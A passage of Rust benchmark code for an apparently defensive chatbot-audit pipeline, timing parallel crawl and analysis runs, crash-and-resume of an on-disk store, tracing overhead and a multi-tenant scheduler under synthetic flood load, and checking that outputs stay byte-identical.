                    .and_then(|v| v.parse().ok())
                    .unwrap_or(args.workers);
                i += 2;
            }
            "--bench-json" => {
                args.bench_json = argv.get(i + 1).cloned();
                i += 2;
            }
            "--store-dir" => {
                args.store_dir = argv.get(i + 1).cloned();
                i += 2;
            }
            "--resume" => {
                args.resume = true;
                i += 1;
            }
            "--kill-after-frames" => {
                args.kill_after_frames = argv.get(i + 1).and_then(|v| v.parse().ok());
                i += 2;
            }
            "--store-bench-json" => {
                args.store_bench_json = argv.get(i + 1).cloned();
                i += 2;
            }
            "--obs-bench-json" => {
                args.obs_bench_json = argv.get(i + 1).cloned();
                i += 2;
            }
            "--sched-bench-json" => {
                args.sched_bench_json = argv.get(i + 1).cloned();
                i += 2;
            }
            "--oplog-bench-json" => {
                args.oplog_bench_json = argv.get(i + 1).cloned();
                i += 2;
            }
            other => {
                eprintln!("unknown argument {other:?}");
                std::process::exit(2);
            }
        }
    }
    args
}

fn want(args: &Args, what: &str) -> bool {
    args.only.as_deref().map(|o| o == what).unwrap_or(true)
}

/// An [`AuditConfig`] with every `workers` knob (crawl shards, analysis
/// pool, honeypot campaigns) set to `workers`.
fn audit_config(honeypot_sample: usize, workers: usize) -> AuditConfig {
    let mut config = AuditConfig {
        honeypot_sample,
        ..AuditConfig::default()
    };
    config.workers = workers;
    config.crawl.workers = workers;
    config.honeypot.workers = workers;
    config
}

/// The `caches:` line, now a view over the pipeline's obs registry
/// instead of hand-threaded stage counters.
fn caches_line(obs: &Obs) -> String {
    let c = |p: &str| obs.counter_value(p);
    format!(
        "caches: link cache {} hits / {} misses | policy memo {} hits / {} misses | \
         kernels: policy automaton {} states, {} passes, {} bytes | \
         code automaton {} states, {} passes, {} bytes | \
         journal {} written / {} replayed | artifact pack {} hits / {} misses",
        c("analysis.link_cache.hits"),
        c("analysis.link_cache.misses"),
        c("analysis.policy_memo.hits"),
        c("analysis.policy_memo.misses"),
        obs.gauge_value("policy.automaton_states"),
        c("policy.scan_passes"),
        c("policy.bytes_scanned"),
        obs.gauge_value("code.automaton_states"),
        c("code.scan_passes"),
        c("code.bytes_scanned"),
        c("store.journal.frames_written"),
        c("store.journal.replayed"),
        c("store.artifacts.hits"),
        c("store.artifacts.misses"),
    )
}

/// The whole obs registry as JSON: counters and gauges flatten to numbers,
/// histograms to `{count, sum, min, max, mean}` summaries.
fn registry_json(obs: &Obs) -> serde_json::Value {
    let mut m = serde_json::Map::new();
    for (path, value) in obs.metrics_snapshot() {
        let v = match value {
            MetricValue::Counter(n) => n.into(),
            MetricValue::Gauge(n) => n.into(),
            MetricValue::Histogram(h) => {
                let mut s = serde_json::Map::new();
                s.insert("count".into(), h.count.into());
                s.insert("sum".into(), h.sum.into());
                s.insert("min".into(), h.min.into());
                s.insert("max".into(), h.max.into());
                s.insert(
                    "mean".into(),
                    serde_json::to_value(h.mean()).expect("serializable"),
                );
                s.into()
            }
        };
        m.insert(path, v);
    }
    m.into()
}

/// Run the full pipeline (crawl + static analysis + honeypot) at each
/// worker count, recording wall time and speedup over the serial run.
/// World construction happens outside the timer — the engine under test
/// is the audit pipeline, not the synthesizer.
fn parallel_bench(args: &Args, path: &str) {
    let cores = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    eprintln!(
        "parallel scaling sweep: {} listings, workers 1/2/4/8 on {cores} core{} …",
        args.scale,
        if cores == 1 { "" } else { "s" }
    );
    let mut runs = Vec::new();
    let mut serial_ms = 0.0_f64;
    for workers in [1usize, 2, 4, 8] {
        let eco = build_ecosystem(&EcosystemConfig {
            num_bots: args.scale,
            seed: args.seed,
            ..EcosystemConfig::default()
        });
        let pipeline = AuditPipeline::new(audit_config(args.honeypot_sample, workers));
        let t0 = std::time::Instant::now();
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        let campaign = pipeline.run_honeypot(&eco);
        let wall_ms = t0.elapsed().as_secs_f64() * 1e3;
        if workers == 1 {
            serial_ms = wall_ms;
        }
        let speedup = serial_ms / wall_ms;
        let obs = pipeline.obs();
        println!(
            "workers {workers}: {wall_ms:7.1} ms wall | speedup {speedup:.2}x | \
             link cache {}/{} hit/miss | policy memo {}/{} hit/miss | \
             policy kernel {} passes/{} bytes | code kernel {} passes/{} bytes | \
             {} bots | {} detections",
            obs.counter_value("analysis.link_cache.hits"),
            obs.counter_value("analysis.link_cache.misses"),
            obs.counter_value("analysis.policy_memo.hits"),
            obs.counter_value("analysis.policy_memo.misses"),
            obs.counter_value("policy.scan_passes"),
            obs.counter_value("policy.bytes_scanned"),
            obs.counter_value("code.scan_passes"),
            obs.counter_value("code.bytes_scanned"),
            bots.len(),
            campaign.detections.len(),
        );
        let mut run = serde_json::Map::new();
        run.insert(
            "workers".into(),
            serde_json::to_value(workers).expect("serializable"),
        );
        run.insert(
            "wall_ms".into(),
            serde_json::to_value(wall_ms).expect("serializable"),
        );
        run.insert(
            "speedup_vs_serial".into(),
            serde_json::to_value(speedup).expect("serializable"),
        );
        run.insert(
            "bots".into(),
            serde_json::to_value(bots.len()).expect("serializable"),
        );
        run.insert(
            "detections".into(),
            serde_json::to_value(campaign.detections.len()).expect("serializable"),
        );
        run.insert("metrics".into(), registry_json(obs));
        runs.push(run.into());
    }
    let mut out = serde_json::Map::new();
    out.insert(
        "available_cores".into(),
        serde_json::to_value(cores).expect("serializable"),
    );
    out.insert(
        "scale".into(),
        serde_json::to_value(args.scale).expect("serializable"),
    );
    out.insert(
        "seed".into(),
        serde_json::to_value(args.seed).expect("serializable"),
    );
    out.insert(
        "honeypot_sample".into(),
        serde_json::to_value(args.honeypot_sample).expect("serializable"),
    );
    out.insert("runs".into(), serde_json::Value::Array(runs));
    std::fs::write(
        path,
        serde_json::to_string_pretty(&out).expect("serializable"),
    )
    .expect("write bench json");
    eprintln!("wrote {path}");
}

/// Measure what the audit store buys: a cold run (empty store), a warm run
/// (fresh journal over a warm artifact pack — re-crawl but zero
/// re-analysis), a pure replay (resuming an already-complete journal), and
/// a crash-at-half-frames resume. All five runs must agree byte-for-byte.
fn store_bench(args: &Args, path: &str) {
    let dir = std::env::temp_dir().join(format!("audit-store-bench-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("create bench store dir");
    let dir_str = dir.to_string_lossy().to_string();
    eprintln!(
        "incremental-store bench: {} listings, store at {dir_str} …",
        args.scale
    );

    let run = |resume: bool, kill: Option<u64>| -> (f64, Result<ResumableOutcome, u64>) {
        let eco = build_ecosystem(&EcosystemConfig {
            num_bots: args.scale,
            seed: args.seed,
            ..EcosystemConfig::default()
        });
        let pipeline = AuditPipeline::new(audit_config(args.honeypot_sample, args.workers));
        let mut store = StoreConfig::on_disk(&dir_str).expect("open bench store");
        store.resume = resume;
        store.kill_after_frames = kill;
        let t0 = std::time::Instant::now();
        let outcome = pipeline.run_resumable(&eco, &store, args.seed);
        let wall_ms = t0.elapsed().as_secs_f64() * 1e3;
        match outcome {
            Ok(o) => (wall_ms, Ok(o)),
            Err(ResumeError::Interrupted { frames_written }) => (wall_ms, Err(frames_written)),
            Err(other) => panic!("store bench run failed: {other}"),
        }
    };
    let run_json =
        |wall_ms: f64, o: &ResumableOutcome, speedup: Option<f64>| -> serde_json::Value {
            let mut m = serde_json::Map::new();
            m.insert(
                "wall_ms".into(),
                serde_json::to_value(wall_ms).expect("serializable"),
            );
            if let Some(s) = speedup {
                m.insert(
                    "speedup_vs_cold".into(),
                    serde_json::to_value(s).expect("serializable"),
                );
            }
            m.insert("frames_written".into(), o.store_stats.frames_written.into());
            m.insert(
                "frames_replayed".into(),
                o.store_stats.frames_replayed.into(),
            );
            m.insert("artifact_hits".into(), o.store_stats.artifact_hits.into());
            m.insert(
                "artifact_misses".into(),
                o.store_stats.artifact_misses.into(),
            );
            m.into()
        };

    // Cold: empty store, every analysis computed and packed.
    let (cold_ms, cold) = run(false, None);
    let cold = cold.expect("cold run completes");
    let reference = cold.report.canonical_json();

    // Warm: fresh journal over the warm pack. Re-crawls, re-analyzes nothing.
    let (warm_ms, warm) = run(false, None);
    let warm = warm.expect("warm run completes");
    assert_eq!(
        warm.store_stats.artifact_misses, 0,
        "warm pack must serve every analysis"
    );
    assert_eq!(warm.report.canonical_json(), reference);

    // Replay: resume the complete journal — everything is already durable.
    let (replay_ms, replay) = run(true, None);
    let replay = replay.expect("replay run completes");
    assert_eq!(replay.report.canonical_json(), reference);

    // Crash drill: fresh journal killed half-way, then resumed to the end.
    let kill_at = cold.store_stats.frames_written / 2;
    let (killed_ms, killed) = run(false, Some(kill_at));
    let durable = killed.expect_err("kill switch fires mid-run");
    let (resume_ms, resumed) = run(true, None);
    let resumed = resumed.expect("resumed run completes");
    assert_eq!(
        resumed.report.canonical_json(),
        reference,
        "resume must be byte-identical"
    );

    println!(
        "store bench: cold {cold_ms:.1} ms | warm pack {warm_ms:.1} ms ({:.2}x) | \
         replay {replay_ms:.1} ms ({:.2}x) | crash at frame {kill_at} ({durable} durable, \
         {killed_ms:.1} ms) + resume {resume_ms:.1} ms",
        cold_ms / warm_ms,
        cold_ms / replay_ms,
    );

    let mut out = serde_json::Map::new();
    out.insert("scale".into(), args.scale.into());
    out.insert("seed".into(), args.seed.into());
    out.insert("honeypot_sample".into(), args.honeypot_sample.into());
    out.insert("workers".into(), args.workers.into());
    out.insert("byte_identical".into(), true.into());
    out.insert("cold".into(), run_json(cold_ms, &cold, None));
    out.insert(
        "warm_pack".into(),
        run_json(warm_ms, &warm, Some(cold_ms / warm_ms)),
    );
    out.insert(
        "replay_complete_journal".into(),
        run_json(replay_ms, &replay, Some(cold_ms / replay_ms)),
    );
    let mut crash = serde_json::Map::new();
    crash.insert("kill_after_frames".into(), kill_at.into());
    crash.insert("durable_frames".into(), durable.into());
    crash.insert(
        "killed_wall_ms".into(),
        serde_json::to_value(killed_ms).expect("serializable"),
    );
    crash.insert(
        "resume".into(),
        run_json(resume_ms, &resumed, Some(cold_ms / resume_ms)),
    );
    out.insert("crash_and_resume".into(), crash.into());
    std::fs::write(
        path,
        serde_json::to_string_pretty(&out).expect("serializable"),
    )
    .expect("write store bench json");
    eprintln!("wrote {path}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// Measure the observability tax on the end-to-end audit path (crawl +
/// analysis + honeypot): interleaved rounds with the `NullRecorder`
/// (tracing disabled — the default) and the `JsonRecorder` (full span
/// capture), plus a microbench of the exact operations the disabled path
/// adds over no instrumentation at all, scaled by a real run's span count.
fn obs_bench(args: &Args, path: &str) {
    const ROUNDS: usize = 5;
    eprintln!(
        "observability bench: {} listings, {ROUNDS} interleaved rounds per recorder …",
        args.scale
    );

    let run = |mk_obs: &dyn Fn(&synth::Ecosystem) -> Obs| -> f64 {
        let eco = build_ecosystem(&EcosystemConfig {
            num_bots: args.scale,
            seed: args.seed,
            ..EcosystemConfig::default()
        });
        let obs = mk_obs(&eco);
        let pipeline =
            AuditPipeline::with_obs(audit_config(args.honeypot_sample, args.workers), obs);
        let t0 = std::time::Instant::now();
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        let campaign = pipeline.run_honeypot(&eco);
        let wall_ms = t0.elapsed().as_secs_f64() * 1e3;
        assert_eq!(bots.len(), args.scale);
        assert_eq!(campaign.bots_tested, args.honeypot_sample);
        wall_ms
    };
    let median = |xs: &[f64]| -> f64 {
        let mut s = xs.to_vec();
        s.sort_by(f64::total_cmp);
        s[s.len() / 2]
    };

    // Interleave the two recorders so machine drift hits both equally.
    let mut null_ms = Vec::new();
    let mut json_ms = Vec::new();
    let mut spans_per_run = 0usize;
    let mut trace_bytes = 0usize;
    for _ in 0..ROUNDS {
        null_ms.push(run(&|_| Obs::disabled()));
        let recorder = Arc::new(JsonRecorder::new());
        let rec = recorder.clone();
        json_ms.push(run(&move |eco: &synth::Ecosystem| {
            Obs::with_recorder(rec.clone(), Arc::new(eco.net.clock().clone()))
        }));
        spans_per_run = recorder.span_count();
        trace_bytes = recorder.canonical_trace().len();
    }
    let (null_median, json_median) = (median(&null_ms), median(&json_ms));
    let json_overhead_pct = (json_median - null_median) / null_median * 100.0;

    // What the NullRecorder path adds over no instrumentation at all: a
    // tracing check that returns a disabled span (plus a field record that
    // hits the `None` arm) and relaxed-atomic registry updates. Time those
    // directly and scale by the span count a traced run actually opens.
    let disabled = Obs::disabled();
    let iters = 1_000_000u64;
    let t0 = std::time::Instant::now();
    for i in 0..iters {
        let span = disabled.span_keyed("bench", i);
        span.record("x", i);
    }
    let span_ns = t0.elapsed().as_secs_f64() * 1e9 / iters as f64;
    let counter = disabled.counter("bench.counter");
    let t0 = std::time::Instant::now();
    for _ in 0..iters {
        counter.add(1);
    }
    let counter_ns = t0.elapsed().as_secs_f64() * 1e9 / iters as f64;
    // Generous op budget: every span a traced run opens, plus as many
    // metric updates again.
    let assumed_ops = (spans_per_run * 2) as f64;
    let estimated_pct = assumed_ops * (span_ns + counter_ns) / 1e6 / null_median * 100.0;

    println!(
        "obs bench: null {null_median:.1} ms | json {json_median:.1} ms \
         ({json_overhead_pct:+.2}% tracing) | disabled span {span_ns:.1} ns, counter add \
         {counter_ns:.1} ns → NullRecorder ≈{estimated_pct:.3}% of the audit path \
         ({spans_per_run} spans/run, trace {trace_bytes} bytes)"
    );

    let mut out = serde_json::Map::new();
    out.insert("scale".into(), args.scale.into());
    out.insert("seed".into(), args.seed.into());
    out.insert("honeypot_sample".into(), args.honeypot_sample.into());
    out.insert("workers".into(), args.workers.into());
    out.insert("rounds_each".into(), ROUNDS.into());
    let side = |runs: &[f64], med: f64| -> serde_json::Map {
        let mut m = serde_json::Map::new();
        m.insert(
            "runs_ms".into(),
            serde_json::to_value(runs).expect("serializable"),
        );
        m.insert(
            "median_ms".into(),
            serde_json::to_value(med).expect("serializable"),
        );
        m
    };
    out.insert("null_recorder".into(), side(&null_ms, null_median).into());
    let mut json_side = side(&json_ms, json_median);
    json_side.insert("spans_per_run".into(), spans_per_run.into());
    json_side.insert("trace_bytes".into(), trace_bytes.into());
    out.insert("json_recorder".into(), json_side.into());
    out.insert(
        "json_tracing_overhead_pct".into(),
        serde_json::to_value(json_overhead_pct).expect("serializable"),
    );
    let mut null_overhead = serde_json::Map::new();
    null_overhead.insert(
        "disabled_span_open_record_close_ns".into(),
        serde_json::to_value(span_ns).expect("serializable"),
    );
    null_overhead.insert(
        "counter_add_ns".into(),
        serde_json::to_value(counter_ns).expect("serializable"),
    );
    null_overhead.insert(
        "assumed_ops_per_run".into(),
        serde_json::to_value(assumed_ops).expect("serializable"),
    );
    null_overhead.insert(
        "estimated_overhead_pct".into(),
        serde_json::to_value(estimated_pct).expect("serializable"),
    );
    out.insert("null_recorder_overhead".into(), null_overhead.into());
    std::fs::write(
        path,
        serde_json::to_string_pretty(&out).expect("serializable"),
    )
    .expect("write obs bench json");
    eprintln!("wrote {path}");
}

/// Measure the fleet scheduler: multi-tenant throughput at 1/2/4/8 workers
/// (every worker count must produce byte-identical reports) and what the
/// incremental re-audit path buys over a cold audit of a drifted epoch.
fn sched_bench(args: &Args, path: &str) {
    use chatbot_audit::{platform_breakdown, Audit, FleetConfig, FleetService, PlatformKind};
    use sched::JobSpec;

    const TENANTS: usize = 6;
    eprintln!(
        "fleet scheduler bench: {TENANTS} tenants × {} listings, workers 1/2/4/8 …",
        args.scale
    );
    let job = |epoch: u32| {
        Audit::builder()
            .scale(args.scale)
            .seed(args.seed)
            .honeypot_sample(args.honeypot_sample)
            .drift(synth::DriftConfig::default())
            .epoch(epoch)
            .into_job()
            .expect("valid fleet job")
    };
    let dump = |outcomes: &[chatbot_audit::JobOutcome]| -> String {
        outcomes
            .iter()
            .map(|o| {
                serde_json::to_string(o.report.as_ref().expect("fleet job completes"))
                    .expect("report serializes")
            })
            .collect::<Vec<_>>()
            .join("\n")
    };

    let mut runs = Vec::new();
    let mut reference = String::new();
    let mut serial_ms = 0.0_f64;
    for workers in [1usize, 2, 4, 8] {
        let service = FleetService::new(FleetConfig {
            workers,
            ..FleetConfig::default()
        });
        for t in 0..TENANTS {
            service
                .submit(JobSpec::new(format!("tenant-{t}")), job(0))
                .expect("queue has room");
        }
        let t0 = std::time::Instant::now();
        let outcomes = service.run();
        let wall_ms = t0.elapsed().as_secs_f64() * 1e3;
        let this = dump(&outcomes);
        if workers == 1 {
            serial_ms = wall_ms;
            reference = this;
        } else {
            assert_eq!(this, reference, "workers={workers} reports diverged");
        }
        let speedup = serial_ms / wall_ms;
        let throughput = TENANTS as f64 / (wall_ms / 1e3);
        println!(
            "sched workers {workers}: {wall_ms:7.1} ms wall | {throughput:6.2} audits/s | \
             speedup {speedup:.2}x | byte-identical"
        );
        let mut run = serde_json::Map::new();
        run.insert("workers".into(), workers.into());
        run.insert(
            "wall_ms".into(),
            serde_json::to_value(wall_ms).expect("serializable"),
        );
        run.insert(
            "audits_per_sec".into(),
            serde_json::to_value(throughput).expect("serializable"),
        );
        run.insert(
            "speedup_vs_serial".into(),
            serde_json::to_value(speedup).expect("serializable"),
        );
        runs.push(run.into());
    }

    // Incremental vs cold re-audit of a drifted epoch, single tenant.
    // Interleaved rounds with medians, as in the obs bench, so machine
    // drift hits both sides equally.
    //
    // Drift cadence: the multi-tenant runs above drift at the default
    // month-scale rates. A fleet on a weekly re-audit cadence sees about
    // a quarter of that churn per pass, so the incremental scenario
    // divides the default rates by 4 (the exact rates land in the JSON —
    // the speedup is only meaningful relative to them, since every
    // changed bot costs a full fetch no matter how good the cache is).
    const CADENCE_DIV: f64 = 4.0;
    let reaudit_drift = {
        let d = synth::DriftConfig::default();
        synth::DriftConfig {
            permission_creep: d.permission_creep / CADENCE_DIV,
            policy_churn: d.policy_churn / CADENCE_DIV,
            github_churn: d.github_churn / CADENCE_DIV,
            behavior_churn: d.behavior_churn / CADENCE_DIV,
        }
    };
    const ROUNDS: usize = 3;
    let median = |xs: &mut Vec<f64>| -> f64 {
        xs.sort_by(f64::total_cmp);
        xs[xs.len() / 2]
    };
    let mut warm_rounds = Vec::new();
    let mut cold_rounds = Vec::new();
    let mut warm = None;
    let mut cold = None;
    // Crawl-side counters for the warm epoch-1 run alone (epoch 0's cold
    // crawl is subtracted out): 304 round-trips, full fetches, bytes the
    // validators kept off the wire.
    let mut validations = 0u64;
    let mut full_fetches = 0u64;
    let mut bytes_saved = 0u64;
    let mut guilds_reused = 0u64;
    let inc_job = |epoch: u32| {
        Audit::builder()
            .scale(args.scale)
            .seed(args.seed)
            .honeypot_sample(args.honeypot_sample)
            .drift(reaudit_drift.clone())
            .epoch(epoch)
            .into_job()
            .expect("valid fleet job")
    };
    let instrumented_job = |epoch: u32, obs: &obs::Obs| {
        Audit::builder()
            .scale(args.scale)
            .seed(args.seed)
            .honeypot_sample(args.honeypot_sample)
            .drift(reaudit_drift.clone())
            .epoch(epoch)
            .obs(obs.clone())
            .into_job()
            .expect("valid fleet job")
    };
    for _ in 0..ROUNDS {
        let obs = obs::Obs::disabled();
        let service = FleetService::new(FleetConfig::default());
        service
            .submit(JobSpec::new("longitudinal"), inc_job(0))
            .expect("submit epoch 0");
        service.run();
        let at_epoch0 = |path: &str| obs.counter_value(path);
        let base = [
            at_epoch0("crawl.validated"),
            at_epoch0("crawl.fetched_full"),
            at_epoch0("crawl.bytes_saved"),
            at_epoch0("honeypot.guilds_reused"),
        ];
        service
            .submit(JobSpec::new("longitudinal"), instrumented_job(1, &obs))
            .expect("submit warm epoch 1");
        let t0 = std::time::Instant::now();
        warm = Some(service.run().remove(0));
        warm_rounds.push(t0.elapsed().as_secs_f64() * 1e3);
        validations = obs.counter_value("crawl.validated") - base[0];
        full_fetches = obs.counter_value("crawl.fetched_full") - base[1];
        bytes_saved = obs.counter_value("crawl.bytes_saved") - base[2];
        guilds_reused = obs.counter_value("honeypot.guilds_reused") - base[3];

        let fresh = FleetService::new(FleetConfig::default());
        fresh
            .submit(JobSpec::new("cold"), inc_job(1))
            .expect("submit cold epoch 1");
        let t0 = std::time::Instant::now();
        cold = Some(fresh.run().remove(0));
        cold_rounds.push(t0.elapsed().as_secs_f64() * 1e3);
    }
    let (warm, cold) = (
        warm.expect("warm rounds ran"),
        cold.expect("cold rounds ran"),
    );
    let warm_ms = median(&mut warm_rounds);
    let cold_ms = median(&mut cold_rounds);

    let warm_report =
        serde_json::to_string(warm.report.as_ref().expect("warm run completes")).unwrap();
    let cold_report =
        serde_json::to_string(cold.report.as_ref().expect("cold run completes")).unwrap();
    assert_eq!(
        warm_report, cold_report,
        "incremental re-audit diverged from cold"
    );
    let speedup = cold_ms / warm_ms;
    println!(
        "incremental re-audit: cold epoch-1 {cold_ms:.1} ms | warm {warm_ms:.1} ms \
         ({speedup:.2}x) | pack {} hits / {} misses | {}",
        warm.artifact_hits,
        warm.artifact_misses,
        warm.delta.as_ref().map(|d| d.summary()).unwrap_or_default(),
    );
    println!(
        "  warm crawl: {validations} pages 304'd | {full_fetches} full fetches | \
         {bytes_saved} bytes saved | {guilds_reused} honeypot guilds replayed"
    );

    // Heterogeneous fleet: alternate Discord and Telegram tenants through
    // the same service. The scheduler must not care which substrate a job
    // mounts — reports stay byte-identical at any worker count and the
    // per-platform breakdown accounts for every tenant.
    eprintln!("mixed-platform fleet: {TENANTS} tenants (alternating discord/telegram) …");
    let mixed_job = |kind: PlatformKind| {
        Audit::builder()
            .platform(kind)
            .scale(args.scale)
            .seed(args.seed)
            .honeypot_sample(args.honeypot_sample)
            .into_job()
            .expect("valid mixed fleet job")
    };
    let mut mixed_runs = Vec::new();
    let mut mixed_reference = String::new();
    let mut mixed_serial_ms = 0.0_f64;
    let mut breakdown_json = serde_json::Value::Null;
    for workers in [1usize, 4] {
        let service = FleetService::new(FleetConfig {
            workers,
            ..FleetConfig::default()
        });
        for t in 0..TENANTS {
            let kind = if t % 2 == 0 {
                PlatformKind::Discord
            } else {
                PlatformKind::Telegram
            };
            service
                .submit(JobSpec::new(format!("mixed-{t}")), mixed_job(kind))
                .expect("queue has room");
        }
        let t0 = std::time::Instant::now();
        let outcomes = service.run();
        let wall_ms = t0.elapsed().as_secs_f64() * 1e3;
        let this = dump(&outcomes);
        if workers == 1 {
            mixed_serial_ms = wall_ms;
            mixed_reference = this;
            breakdown_json =
                serde_json::to_value(platform_breakdown(&outcomes)).expect("serializable");
        } else {
            assert_eq!(
                this, mixed_reference,
                "mixed fleet workers={workers} reports diverged"
            );
        }
        println!(
            "mixed fleet workers {workers}: {wall_ms:7.1} ms wall | \
             speedup {:.2}x | byte-identical",
            mixed_serial_ms / wall_ms
        );
        let mut run = serde_json::Map::new();
        run.insert("workers".into(), workers.into());
        run.insert(
            "wall_ms".into(),
            serde_json::to_value(wall_ms).expect("serializable"),
        );
        run.insert(
            "speedup_vs_serial".into(),
            serde_json::to_value(mixed_serial_ms / wall_ms).expect("serializable"),
        );
        mixed_runs.push(run.into());
    }

    // Adversarial load: the always-on daemon under a hostile arrival
    // plan — a flooding batch tenant, two equal-weight steady tenants,
    // interactive preemption pokes, and just-missable deadlines riding
    // the flooder's own backlog. This section proves the daemon's three
    // claims with numbers: the deficit-round-robin service gap stays
    // within quantum × weight, every missed deadline surfaces as a typed
    // DeadlineExpired outcome whose count matches the `sched.expired`
    // counter, and cooperative preemption keeps interactive latency at
    // tick granularity while the flooder's sliced batch jobs wait out
    // their own backlog. Everything runs on the virtual clock and must
    // be byte-identical at 1 vs 4 workers.
    use chatbot_audit::{ErrorKind, FleetDaemon, FleetDaemonConfig};
    use netsim::VirtualClock;
    use std::sync::Arc;

    const ADV_SCALE: usize = 40;
    const ADV_QUANTUM: u32 = 1;
    const ADV_SLICE_FRAMES: u64 = 6;
    const ADV_TICK_MS: u64 = 10;
    let plan_config = synth::ArrivalConfig::default();
    let plan = synth::adversarial_arrivals(&plan_config);
    eprintln!(
        "adversarial load: {} arrivals over {} virtual ms \
         (flood burst {}, {} steady tenants, {} ms deadline slack) …",
        plan.len(),
        u64::from(plan_config.rounds) * plan_config.round_ms,
        plan_config.flood_burst,
        plan_config.steady_tenants,
        plan_config.deadline_slack_ms,
    );
    let adv_job = |epoch: u32| {
        Audit::builder()
            .scale(ADV_SCALE)
            .seed(args.seed)
            .honeypot_sample(5)
            .site_defenses(false)
            .drift(synth::DriftConfig::default())
            .epoch(epoch)
            .into_job()
            .expect("valid adversarial job")
    };
    struct AdvRun {
        dump: String,
        wall_ms: f64,
        completed: u64,
        expired: u64,
        expired_counter: u64,
        parked: u64,
        max_gap: u64,
        interactive_waits: Vec<u64>,
        flood_waits: Vec<u64>,
        horizon_ms: u64,
    }
    let adv_run = |workers: usize| -> AdvRun {
        let daemon = FleetDaemon::with_obs(
            FleetDaemonConfig {
                workers,
                quantum: ADV_QUANTUM,
                batch_slice_frames: Some(ADV_SLICE_FRAMES),
                tick_ms: ADV_TICK_MS,
                ..FleetDaemonConfig::default()
            },
            Arc::new(store::MemBackend::new()),
            VirtualClock::new(),
            obs::Obs::disabled(),
        );
        let t0 = std::time::Instant::now();
        for arrival in &plan {
            daemon.run_until(arrival.at_ms);
            let mut spec = JobSpec::builder(arrival.tenant.as_str())
                .lane_named(arrival.lane)
                .weight(arrival.weight);
            if let Some(deadline) = arrival.deadline_ms {
                spec = spec.deadline_ms(deadline);
            }
            daemon
                .submit(
                    spec.build().expect("plan specs validate"),
                    adv_job(arrival.epoch),
                )
                .expect("plan fits the queue");
        }
        let horizon_ms = plan.last().expect("plan is non-empty").at_ms + 8_000;
        daemon.run_until(horizon_ms);
        assert_eq!(daemon.queued(), 0, "adversarial backlog must drain");
        let wall_ms = t0.elapsed().as_secs_f64() * 1e3;

        let mut run = AdvRun {
            dump: String::new(),
            wall_ms,
            completed: 0,
            expired: 0,
            expired_counter: daemon.obs().counter_value("sched.expired"),
            parked: daemon.obs().counter_value("sched.parked"),
            max_gap: daemon.fairness_gap(),
            interactive_waits: Vec::new(),
            flood_waits: Vec::new(),
            horizon_ms,
        };
        for outcome in daemon.poll_outcomes() {
            run.dump.push_str(&format!(
                "id={} tenant={} epoch={} wait={} ",
                outcome.id, outcome.tenant, outcome.epoch, outcome.wait_ms,
            ));
            match &outcome.report {
                Ok(report) => {
                    run.completed += 1;
                    if outcome.tenant == "oncall" {
                        run.interactive_waits.push(outcome.wait_ms);
                    } else if outcome.tenant == "flood" {
                        run.flood_waits.push(outcome.wait_ms);
                    }
                    run.dump
                        .push_str(&serde_json::to_string(report).expect("report serializes"));
                }
                Err(e) => {
                    if e.kind() == ErrorKind::Expired {
                        run.expired += 1;
                    }
                    run.dump.push_str(&format!("error[{}]: {e}", e.kind()));
                }
            }
            run.dump.push('\n');
        }
        run
    };
    let adv_serial = adv_run(1);
    let adv_quad = adv_run(4);
    assert_eq!(
        adv_quad.dump, adv_serial.dump,
        "adversarial outcomes diverged at workers=4"
    );
    assert!(
        adv_serial.expired >= 1,
        "the plan's just-missable deadlines must expire behind the flood"
    );
    assert_eq!(
        adv_serial.expired, adv_serial.expired_counter,
        "typed DeadlineExpired outcomes must match the sched.expired counter"
    );
    assert!(
        adv_serial.parked >= 1,
        "the flooder's sliced batch audits must park at least once"
    );
    // Every plan tenant carries weight 1, so the bound is the quantum.
    let drr_bound = u64::from(ADV_QUANTUM);
    assert!(
        adv_serial.max_gap <= drr_bound,
        "equal-weight service gap {} broke the DRR bound {drr_bound}",
        adv_serial.max_gap
    );
    let mean = |xs: &[u64]| {
        if xs.is_empty() {
            0.0
        } else {
            xs.iter().sum::<u64>() as f64 / xs.len() as f64
        }
    };
    println!(
        "adversarial load: {} jobs | {} completed, {} expired (== sched.expired) | \
         {} preemptions | DRR gap {} <= bound {drr_bound} | byte-identical 1 vs 4 workers",
        plan.len(),
        adv_serial.completed,
        adv_serial.expired,
        adv_serial.parked,
        adv_serial.max_gap,
    );
    println!(
        "  preemption latency (virtual ms): interactive max {} / mean {:.1} vs \
         flooded batch mean {:.1}",
        adv_serial
            .interactive_waits
            .iter()
            .max()
            .copied()
            .unwrap_or(0),
        mean(&adv_serial.interactive_waits),
        mean(&adv_serial.flood_waits),
    );

    let cores = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    let mut out = serde_json::Map::new();
    out.insert("scale".into(), args.scale.into());
    out.insert("seed".into(), args.seed.into());
    out.insert("honeypot_sample".into(), args.honeypot_sample.into());
    out.insert("tenants".into(), TENANTS.into());
    out.insert("available_cores".into(), cores.into());
    out.insert("byte_identical".into(), true.into());
    out.insert("runs".into(), serde_json::Value::Array(runs));
    let mut inc = serde_json::Map::new();
    inc.insert(
        "cold_epoch1_ms".into(),
        serde_json::to_value(cold_ms).expect("serializable"),
    );
    inc.insert(
        "incremental_ms".into(),
        serde_json::to_value(warm_ms).expect("serializable"),
    );
    inc.insert(
        "speedup".into(),
        serde_json::to_value(speedup).expect("serializable"),
    );
    inc.insert("artifact_hits".into(), warm.artifact_hits.into());
    inc.insert("artifact_misses".into(), warm.artifact_misses.into());
    inc.insert("validation_roundtrips".into(), validations.into());
    inc.insert("full_fetches".into(), full_fetches.into());
    inc.insert("bytes_saved".into(), bytes_saved.into());
    inc.insert("honeypot_guilds_reused".into(), guilds_reused.into());
    let mut drift = serde_json::Map::new();
    drift.insert(
        "permission_creep".into(),
        serde_json::to_value(reaudit_drift.permission_creep).expect("serializable"),
    );
    drift.insert(
        "policy_churn".into(),
        serde_json::to_value(reaudit_drift.policy_churn).expect("serializable"),
    );
    drift.insert(
        "github_churn".into(),
        serde_json::to_value(reaudit_drift.github_churn).expect("serializable"),
    );
    drift.insert(
        "behavior_churn".into(),
        serde_json::to_value(reaudit_drift.behavior_churn).expect("serializable"),
    );
    inc.insert("drift".into(), drift.into());
    if let Some(delta) = &warm.delta {
        inc.insert(
            "delta".into(),
            serde_json::to_value(delta).expect("serializable"),
        );
    }
